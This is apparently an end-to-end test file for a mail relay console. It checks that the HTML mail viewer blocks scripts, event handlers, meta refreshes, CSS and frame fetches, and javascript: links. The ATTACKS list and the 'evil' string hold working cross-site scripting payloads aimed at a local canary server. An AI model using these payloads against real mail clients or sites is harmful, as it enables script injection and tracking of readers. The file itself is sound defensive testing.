import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { useBrowser } from './support/browser.js';
import { type ConsoleApplication, startConsole } from './support/console-application.js';

const open = useBrowser();
let application: ConsoleApplication;
let canary: Server;
/** A server that nobody should ask for anything. */
let elsewhere: string;
let sung: string[] = [];
/** Connections to it, whether or not something was asked. */
let knocks = 0;

beforeAll(async () => {
  application = await startConsole();
  canary = createServer((request, response) => {
    sung.push(request.url!);
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/html' }).end('sung');
  }).listen(0, '127.0.0.1');
  canary.on('connection', () => knocks++);
  await once(canary, 'listening');
  elsewhere = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
}, 60_000);
afterAll(async () => {
  canary.closeAllConnections();
  canary.close();
  await application?.app.close();
});
beforeEach(() => {
  sung = [];
  knocks = 0;
});

const ATTACKS: [what: string, html: () => string][] = [
  [
    'a script',
    () =>
      `<script>fetch('${elsewhere}/script'); alert(1); top.location = '${elsewhere}/top'</script><script src="${elsewhere}/script.js"></script>`,
  ],
  [
    'handlers',
    () =>
      `<img src="x" onerror="alert(1)"><body onload="fetch('${elsewhere}/onload')"><details open ontoggle="alert(1)">`,
  ],
  [
    'a form',
    () =>
      `<form action="${elsewhere}/form"><input name="q" autofocus onfocus="this.form.submit()"><button id="try">Go</button></form>`,
  ],
  ['a meta refresh', () => `<meta http-equiv="refresh" content="0;url=${elsewhere}/refresh">`],
  [
    'CSS that fetches',
    () =>
      `<style>@import "${elsewhere}/import.css"; @font-face { font-family: x; src: url(${elsewhere}/font) } body { background: url(${elsewhere}/background); font-family: x }</style><p style="background: url(${elsewhere}/inline)">x</p><link rel="stylesheet" href="${elsewhere}/link.css"><link rel="prefetch" href="${elsewhere}/prefetch"><link rel="dns-prefetch" href="${elsewhere}"><link rel="preconnect" href="${elsewhere}">`,
  ],
  [
    'hints where it would connect to',
    () =>
      `<link rel="preconnect" href="${elsewhere}"><LINK/rel="preconnect" href="${elsewhere}"><svg><title><link rel="preconnect" href="${elsewhere}"></title></svg><link\nrel="modulepreload" href="${elsewhere}/module.js"><meta http-equiv="x-dns-prefetch-control" content="on">`,
  ],
  [
    'SVG',
    () =>
      `<svg onload="alert(1)"><script href="${elsewhere}/svg.js"></script><image href="${elsewhere}/svg.png"/><use href="${elsewhere}/use.svg#a"/><a href="javascript:alert(1)"><text y="20">click</text></a></svg>`,
  ],
  [
    'another base',
    () => `<base href="${elsewhere}/" target="_top"><a id="try" href="based">go</a><img src="relative.png">`,
  ],
  [
    'frames',
    () =>
      `<iframe srcdoc="<script>parent.alert(1);fetch('${elsewhere}/srcdoc')</script>"></iframe><iframe src="${elsewhere}/frame"></iframe><object data="${elsewhere}/object"></object><embed src="${elsewhere}/embed"><portal src="${elsewhere}/portal"></portal>`,
  ],
  ['a javascript: link', () => `<a id="try" href="javascript:top.alert(1)" target="_top">go</a>`],
  [
    'a link that opens a window',
    () => `<a id="try" href="${elsewhere}/window" target="_blank" ping="${elsewhere}/ping">go</a>`,
  ],
  [
    'media',
    () =>
      `<video src="${elsewhere}/video" poster="${elsewhere}/poster" autoplay></video><audio src="${elsewhere}/audio" autoplay></audio><img srcset="${elsewhere}/set 2x"><picture><source srcset="${elsewhere}/source"><img src="${elsewhere}/image"></picture><table background="${elsewhere}/table"><tr><td>x</td></tr></table>`,
  ],
];

it.each(ATTACKS)('a mail with %s does nothing', async (what, html) => {
  const { id } = await application.mail.send({
    to: 'ada@example.test',
    subject: what,
    html: `${html()}<p>The end of the mail.</p>`,
  });
  const { page, seen } = await watch();
  const url = `${application.url}#/mails/${id}`;
  await page.goto(url);
  const frame = page.frameLocator('iframe.mail-frame');
  await frame.getByText('The end of the mail.').waitFor({ state: 'attached' });
  const bait = frame.locator('#try');
  if ((await bait.count()) > 0) await bait.click({ force: true, noWaitAfter: true });
  // What would come at once has come when what was asked for later is there.
  await page.getByRole('tab', { name: 'Headers' }).click();
  await page.getByRole('cell', { name: what, exact: true }).waitFor();
  await settled(page);
  expect(sung).toEqual([]);
  expect(knocks).toBe(0);
  expect(seen).toEqual([]);
  expect(page.url().split('?')[0]).toBe(url);
  expect(await page.title()).toBe('Inbox · Mail relay');
});

it('loads images, and nothing else, when the reader asks for them', async () => {
  const html = `<img src="${elsewhere}/pixel.gif"><script src="${elsewhere}/script.js"></script><link rel="stylesheet" href="${elsewhere}/style.css"><iframe src="${elsewhere}/frame"></iframe><p>Here.</p>`;
  const { id } = await application.mail.send({ to: 'ada@example.test', subject: 'Images', html });
  const { page, seen } = await watch();
  await page.goto(`${application.url}#/mails/${id}`);
  await page.frameLocator('iframe.mail-frame').getByText('Here.').waitFor();
  expect(sung).toEqual([]);
  await page.getByRole('button', { name: 'Load images' }).click();
  await expect.poll(() => sung).toContain('/pixel.gif');
  await settled(page);
  expect(new Set(sung)).toEqual(new Set(['/pixel.gif']));
  expect(seen).toEqual([]);
});

it('shows what a mail says as words, wherever it says it', async () => {
  const evil = `<img src=x onerror=alert(1)>"'`;
  const { id } = await application.mail.send({
    to: { name: evil, address: 'ada@example.test' },
    subject: evil,
    html: `<p><a href="${elsewhere}/?q=${encodeURIComponent(evil)}">&lt;b&gt;${'&lt;img src=x onerror=alert(1)&gt;'}</a></p>`,
    text: evil,
    headers: { 'X-Evil': evil },
    tags: ['<b>'],
    metadata: { evil },
    attachments: [
      { filename: `<b>${'x'.repeat(80)}.html`, content: '<script>alert(1)</script>', contentType: 'text/html' },
    ],
  });
  const { page, seen } = await watch();
  await page.goto(`${application.url}#/mails/${id}`);
  await page.getByRole('heading', { name: evil }).waitFor();
  for (const tab of ['Timeline', 'Text', 'Headers', 'Source', 'Attachments', 'Links', 'Warnings']) {
    await page.getByRole('tab', { name: tab }).click();
    await page.locator('.tab-panel > :not(.skeleton)').first().waitFor();
  }
  expect(await page.locator('img[src=x], .tab-panel b, .mail-row b').count()).toBe(0);
  await page.getByRole('tab', { name: 'Attachments' }).click();
  const download = page.waitForEvent('download');
  await page.getByRole('link', { name: /^Download <b>/ }).click();
  await download;
  expect(sung).toEqual([]);
  expect(seen).toEqual([]);
});

it('stays usable with a large mail whose elements are never closed', async () => {
  const html = `<div>${'<p>word <b>word'.repeat(20_000)}</div><p>The end.</p>`;
  const { id } = await application.mail.send({ to: 'ada@example.test', subject: 'Huge', html, text: 'Huge' });
  await application.mail.wait(id, { timeout: '20s' });
  const { page } = await watch();
  await page.goto(`${application.url}#/mails/${id}?tab=source`);
  await page.getByText(/These are the first/).waitFor();
  await page.getByRole('tab', { name: 'Warnings' }).click();
  await page.locator('.tab-panel .card').first().waitFor();
  await page.getByRole('tab', { name: 'HTML' }).click();
  await page.locator('iframe.mail-frame').waitFor();
  await page.getByRole('link', { name: 'Suppressions' }).click();
  await page.getByRole('heading', { name: 'Suppressions' }).waitFor();
});

/** What must not be seen: dialogs, windows, downloads that nobody asked for, documents from elsewhere. */
async function watch(): Promise<{ page: Page; seen: string[] }> {
  const { page } = await open();
  const seen: string[] = [];
  page.on('dialog', (dialog) => {
    seen.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.context().on('page', (other) => seen.push(`window: ${other.url()}`));
  page.on('framenavigated', (frame) => {
    if (frame.url().startsWith(elsewhere)) seen.push(`navigation: ${frame.url()}`);
  });
  return { page, seen };
}

/** Time enough for a refresh, a redirect or a timer of the frame. */
async function settled(page: Page): Promise<void> {
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 250)));
}
